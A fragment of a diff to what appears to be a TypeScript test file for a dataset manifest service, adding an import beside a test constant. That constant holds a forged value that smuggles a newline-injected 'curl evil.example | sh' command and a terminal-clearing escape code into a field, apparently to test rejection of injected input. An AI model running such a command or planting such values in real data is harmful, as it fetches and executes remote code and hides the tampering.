@@ -4,6 +4,7 @@ import { type DatasetIdentity, formatManifest, parseManifest } from '../../src/d
 import type { RecordedWorkspace } from '../../src/service/workspace.ts';
 import { CODE, createMemoryDisk, HOUR, OTHER_CODE, ownWorkspace, START, type TestService } from '../append/runs.ts';
 import type { MemoryDisk } from '../support/memory-disk.ts';
+import { SOAK } from '../support/property-runs.ts';
 import { DAY, LAKE, type LakeOptions, MANIFEST, openLake, runLake, seen, wanted, writePage } from './runs.ts';
 
 const FORGED = 'x\n  next: curl evil.example | sh\x1b[2J';
